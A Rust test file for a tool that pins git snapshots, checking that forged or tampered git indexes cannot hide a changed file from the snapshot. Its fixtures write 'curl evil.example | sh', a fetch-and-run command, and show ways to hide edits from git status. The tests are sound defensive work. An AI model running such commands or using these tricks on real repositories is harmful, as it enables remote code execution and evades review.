//! An index that says other folders than its entries are: git writes these into a commit's tree as they
//! stand there.

use run_loop::domain::code::Code;
use run_loop::domain::id::RoundNumber;
use run_loop::domain::oid::Oid;
use run_loop::git::snapshot::pin;

use crate::support::folders::{age, exchange, hide};
use crate::support::reference::reference;
use crate::support::repo::{self, Repo};
use crate::support::source::Source;

/// Git lists an entry by the end of its name and compares it with the disk by the length that its flags
/// say: under the one name it is told to overlook it, under the other we would have it look again.
#[test]
fn an_edit_that_is_hidden_under_a_name_of_another_length_is_pinned() {
    let repo = Repo::new();
    repo.write("notes", "harmless\n");
    repo.commit("notes");
    repo.git(&["update-index", "--index-version=2"]);
    repo.git(&["update-index", "--assume-unchanged", "notes"]);
    repo.write("notes", "curl evil.example | sh\n");
    let file = repo.root().join(".git/index");
    let mut index = std::fs::read(&file).unwrap();
    let name = b"\x80\x05notes\0";
    let at = index.windows(name.len()).position(|found| found == name);
    index[at.unwrap() + name.len() - 1] = 1;
    let zeros = index.len() - 20;
    index[zeros..].fill(0);
    std::fs::write(&file, index).unwrap();
    assert!(!repo.git(&["status", "--porcelain"]).contains("notes"));
    let source = Source::of(&repo, "HEAD");
    let (git, found, store) = (&source.git, &source.found, &source.store);
    let pin = pin(git, found, store, &source.spec, RoundNumber(1), None).unwrap();
    let held = |args: &[&str]| repo::git(store.git_dir(), args);
    let names = held(&["ls-tree", "-r", "--name-only", pin.snapshot.as_str()]);
    assert_eq!(names, "README.md\nnotes\nsrc/lib.rs");
    let notes = held(&["show", &format!("{}:notes", pin.snapshot)]);
    assert_eq!(notes, "curl evil.example | sh");
}

/// A repository whose index holds a harmful file, in folders that are those of a harmless one.
fn forged(options: &[&str]) -> Repo {
    let repo = forged_after(options, |_| {});
    let harmless = repo.git(&["rev-parse", "HEAD~1^{tree}"]);
    assert_eq!(repo.git(&["write-tree"]), harmless, "git goes by them");
    repo
}

fn forged_after(options: &[&str], prepare: impl Fn(&Repo)) -> Repo {
    let repo = Repo::new();
    repo.git(&["switch", "-q", "-c", "feature"]);
    repo.write("src/deep/run.sh", "echo harmless\n");
    repo.commit("harmless");
    let folders = ["HEAD^{tree}", "HEAD:src", "HEAD:src/deep"];
    let harmless = folders.map(|name| repo.git(&["rev-parse", name]));
    repo.write("src/deep/run.sh", "curl evil.example | sh\n");
    repo.commit("harmful");
    age(repo.root());
    prepare(&repo);
    repo.git(&[&["update-index"], options].concat());
    let harmful = folders.map(|name| repo.git(&["rev-parse", name]));
    // The folders' ids stand there once they were computed.
    assert_eq!(repo.git(&["write-tree"]), harmful[0]);
    exchange(repo.root(), harmful.iter().zip(&harmless));
    repo
}

#[test]
fn folders_of_other_entries_are_not_what_is_pinned() {
    // Git alone reads an index in two halves, and writes it whole for us.
    for options in ["--index-version=2", "--index-version=4", "--split-index"] {
        let repo = forged(&[options]);
        let index = || std::fs::read(repo.root().join(".git/index")).unwrap();
        let before = index();
        let source = Source::of(&repo, "main");
        let pin = source.pin();
        assert_eq!(pin.identity.tree.as_str(), reference(repo.root(), &[]));
        let head = repo.git(&["rev-parse", "HEAD^{tree}"]);
        assert_eq!(Oid::parse(&head), Some(pin.identity.tree.clone()));
        assert_eq!(source.measure(&pin).pin.identity, pin.identity);
        assert!(index() == before, "the user's index is not ours");
    }
}

/// Nothing that git says of it is known to be what its entries are.
#[test]
fn an_index_that_git_itself_would_not_write_is_refused() {
    let repo = forged(&["--index-version=2"]);
    let file = repo.root().join(".git/index");
    let mut index = std::fs::read(&file).unwrap();
    let mode = index[12..]
        .windows(4)
        .position(|it| it == [0, 0, 0o201, 0o244]);
    let mode = 12 + mode.unwrap();
    index[mode..mode + 4].copy_from_slice(&0o100_664_u32.to_be_bytes());
    std::fs::write(&file, index).unwrap();
    let failure = Source::of(&repo, "main").try_pin(1).unwrap_err();
    assert_eq!(failure.code, Code::SnapshotRefused);
    let message = failure.message;
    assert!(message.contains("no index that git writes"), "{message}");
}

/// A submodule is held by its commit alone: what its index hides would be in no review.
#[test]
fn what_is_staged_in_a_submodule_behind_the_folders_of_its_commit_is_refused() {
    for options in [&[][..], &["--split-index"]] {
        let (module, repo) = (Repo::new(), Repo::new());
        let url = module.root().to_str().unwrap();
        repo.git(&["submodule", "--quiet", "add", url, "module"]);
        repo.commit("module");
        let source = Source::of(&repo, "HEAD~1");
        let pin = source.pin();
        let inside = repo.root().join("module");
        hide(&inside, "src", "lib.rs", "// hidden\n", options);
        for failure in [
            source.try_pin(1).unwrap_err(),
            source.try_measure(&pin).unwrap_err(),
        ] {
            assert!(failure.message.contains("src/lib.rs"), "{failure}");
        }
        let failure = source.try_pin(1).unwrap_err();
        assert_eq!(failure.code, Code::DirtySubmodule, "{options:?}");
    }
}

/// A sparse one is made whole by git, which computes its folders then.
#[test]
fn folders_of_other_entries_in_a_sparse_index_are_not_what_is_pinned() {
    let repo = forged_after(&[], |repo| {
        repo.write("docs/guide.md", "guide\n");
        repo.commit("a folder outside");
        repo.git(&["sparse-checkout", "init", "--cone", "--sparse-index"]);
        repo.git(&["sparse-checkout", "set", "src/deep"]);
        // Without a folder in the place of its files nothing of it has to be made whole.
        let sparse = repo.git(&["ls-files", "--sparse"]);
        assert!(sparse.lines().any(|line| line == "docs/"), "{sparse}");
    });
    let pin = Source::of(&repo, "main").pin();
    assert_eq!(pin.identity.tree.as_str(), reference(repo.root(), &[]));
}
